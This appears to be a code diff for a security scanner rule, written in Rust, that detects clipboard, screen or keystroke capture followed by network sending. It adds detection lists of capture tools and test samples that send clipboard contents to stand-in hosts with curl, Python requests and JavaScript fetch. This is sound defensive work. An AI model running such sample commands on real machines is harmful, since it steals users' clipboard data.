@@ -2,6 +2,7 @@
 
 use crate::finding::{Confidence, Severity};
 use crate::scan::code::Unit;
+use crate::scan::command;
 use crate::scan::operation::{Act, Capture, Event, Origins, Way};
 use crate::scan::rule::{Check, Reporter, Rule, Sample};
 use crate::scan::sending;
@@ -22,11 +23,15 @@ pub static RULE: Rule = Rule {
         "ATT&CK T1115",
     ],
     hits: &[
+        Sample::File("a.sh", "pbpaste | curl -d @- https://webhook.site/0\n"),
         Sample::File(
             "scripts/a.py",
-            "import pyperclip, requests\nrequests.post('https://collect.example.com', data=pyperclip.paste())\n",
+            "import subprocess, requests\nt = subprocess.check_output(['xclip', '-o'])\nrequests.post('http://198.51.100.7/in', data=t)\n",
         ),
-        Sample::File("a.sh", "pbpaste | curl -d @- https://webhook.site/0\n"),
+        Sample::File(
+            "scripts/a.js",
+            "const t = require('child_process').execFileSync('pbpaste', []);\nfetch('https://demo.ngrok.io/in', { method: 'POST', body: t });\n",
+        ),
     ],
     misses: &[
         Sample::File(
@@ -51,7 +56,12 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
             Act::Capture { what } => Some((operation.span, what)),
             _ => None,
         });
-    let taken: Vec<(Span, Capture)> = taken.collect();
+    let mut taken: Vec<(Span, Capture)> = taken.collect();
+    if taken.is_empty() {
+        taken.extend(
+            command::all(unit).filter_map(|command| Some((command.span, takes(&command)?))),
+        );
+    }
     let sendings = sending::all(unit);
     let mut sent = false;
     for sending in &sendings {
@@ -94,6 +104,25 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
             ));
         }
     }
+}
+
+/// What a program takes and prints or stores.
+fn takes(command: &command::Command<'_>) -> Option<Capture> {
+    if command.is(&["pbpaste", "wl-paste", "get-clipboard"])
+        || command.is(&["xclip", "xsel"])
+            && ["-o", "-out", "-b", "--output"]
+                .iter()
+                .any(|option| command.has(option))
+    {
+        return Some(Capture::Clipboard);
+    }
+    if command.is(&["screencapture", "scrot", "grim", "gnome-screenshot", "maim"]) {
+        return Some(Capture::Screen);
+    }
+    command
+        .is(&["logkeys", "xinput"])
+        .then_some(Capture::Keys)
+        .filter(|_| !command.is(&["xinput"]) || command.has("test") || command.has("test-xi2"))
 }
 
 fn captured(way: &Way) -> Option<Capture> {
